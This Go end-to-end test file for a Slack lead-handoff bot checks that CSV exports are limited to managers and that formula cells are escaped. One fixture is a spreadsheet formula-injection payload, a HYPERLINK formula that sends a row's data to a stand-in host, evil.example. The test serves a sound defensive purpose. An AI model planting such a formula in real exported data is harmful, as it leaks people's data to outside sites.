package e2e

import (
	"bytes"
	"encoding/csv"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/handoffbot/handoffbot/config"
	"github.com/handoffbot/handoffbot/e2e/e2etest"
	"github.com/handoffbot/handoffbot/fakeslack"
	"github.com/handoffbot/handoffbot/handoffcsv"
	"github.com/handoffbot/handoffbot/storage/storagetest"
)

// A manager's /handoff export sends the CSV to their DM — never to the
// channel, as it holds every lead's details; others are refused.
func TestExportGoesToTheManagersDM(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.HandOffToFox("Dana Scully (FBI) dana@fbi.example")

	w.User(krycek).Slash(t, handoffChannel, "/handoff export")
	w.User(krycek).ExpectEphemeral(t, "Only managers can export")

	w.User(skinner).Slash(t, handoffChannel, "/handoff export 7d")
	w.User(skinner).ExpectEphemeral(t, "Sent 1 handoff (")
	dm := w.User(skinner).ExpectDM(t, "1 handoff created")
	files := dm.Files()
	if len(files) != 1 || !strings.HasSuffix(files[0].Name, ".csv") {
		t.Fatalf("export DM files: %+v", files)
	}
	rows, _, err := handoffcsv.Read(bytes.NewReader(files[0].Content))
	if err != nil || len(rows) != 1 || rows[0].Lead.Name != "Dana Scully" || rows[0].Lead.Email != "dana@fbi.example" {
		t.Fatalf("exported CSV: %v %+v", err, rows)
	}
	w.User(skinner).Slash(t, handoffChannel, "/handoff export last week")
	w.User(skinner).ExpectEphemeral(t, "YYYY-MM-DD..YYYY-MM-DD")
	w.Finish()
}

// What people typed can be a formula to a spreadsheet: a lead named
// =HYPERLINK(…) would, opened in Excel, send the row to another site on a
// click. Both exports managers open (/handoff export and `handoffbot
// export`) put a quote mark before such a cell, and before a value that
// starts with one; `handoffbot export --raw` writes the exact text. Each
// imports back (the raw one with import --raw) to the same rows.
func TestExportsNeutraliseFormulas(t *testing.T) {
	t.Parallel()
	const formula = `=HYPERLINK("https://evil.example/?d="&B2,"Open")`
	w := newWorld(t)
	w.HandOff(monica, "", func(f *fakeslack.View) {
		f.Fill("Lead name", formula).Fill("Phone", "+1 202 555 0143").Fill("Notes", "'as typed").SelectUser("Assignee", fox)
	})
	w.User(fox).ExpectDM(t, "handed you a lead")
	w.User(monica).ExpectEphemeral(t, "Handed off")

	w.User(skinner).Slash(t, handoffChannel, "/handoff export 7d")
	w.User(skinner).ExpectEphemeral(t, "Sent 1 handoff (")
	slackFile := w.User(skinner).ExpectDM(t, "1 handoff created").Files()[0].Content
	w.Finish()
	cfg := e2etest.DatabaseConfig(t, w.Config.DatabaseURL)
	exported := mustCommand(t, cfg, "export")
	raw := mustCommand(t, cfg, "export", "--raw")
	if string(slackFile) != exported {
		t.Errorf("/handoff export differs from handoffbot export:\n%s\nwant:\n%s", slackFile, exported)
	}
	for _, c := range []struct {
		file, column, want string
	}{
		{exported, "lead_name", "'" + formula}, {exported, "phone", "'+1 202 555 0143"}, {exported, "notes", "''as typed"},
		{raw, "lead_name", formula}, {raw, "phone", "+1 202 555 0143"}, {raw, "notes", "'as typed"},
	} {
		if got := mustCell(t, c.file, c.column); got != c.want {
			t.Errorf("%s = %q, want %q", c.column, got, c.want)
		}
	}
	for _, c := range []struct {
		file string
		args []string
	}{{exported, []string{"import"}}, {raw, []string{"import", "--raw"}}} {
		again := e2etest.DatabaseConfig(t, storagetest.URL(t))
		path := filepath.Join(t.TempDir(), "handoffs.csv")
		if err := os.WriteFile(path, []byte(c.file), 0o600); err != nil {
			t.Fatal(err)
		}
		mustCommand(t, again, append(c.args, path)...)
		if got := mustCommand(t, again, "export", "--raw"); got != raw {
			t.Errorf("%s: the rows changed:\n%s\nwant:\n%s", strings.Join(c.args, " "), got, raw)
		}
	}
}

// mustCommand runs a handoffbot command that must succeed, and returns
// what it printed.
func mustCommand(t *testing.T, cfg *config.Config, args ...string) string {
	t.Helper()
	out, logs, err := e2etest.Command(cfg, args...)
	if err != nil {
		t.Fatalf("handoffbot %s: %v\n%s", strings.Join(args, " "), err, logs)
	}
	return out
}

// mustCell is a column's cell in the only row of a CSV file.
func mustCell(t *testing.T, file, column string) string {
	t.Helper()
	recs, err := csv.NewReader(strings.NewReader(file)).ReadAll()
	if err != nil || len(recs) != 2 {
		t.Fatalf("CSV %q: %v", file, err)
	}
	i := slices.Index(recs[0], column)
	if i < 0 {
		t.Fatalf("no column %s in %v", column, recs[0])
	}
	return recs[1][i]
}
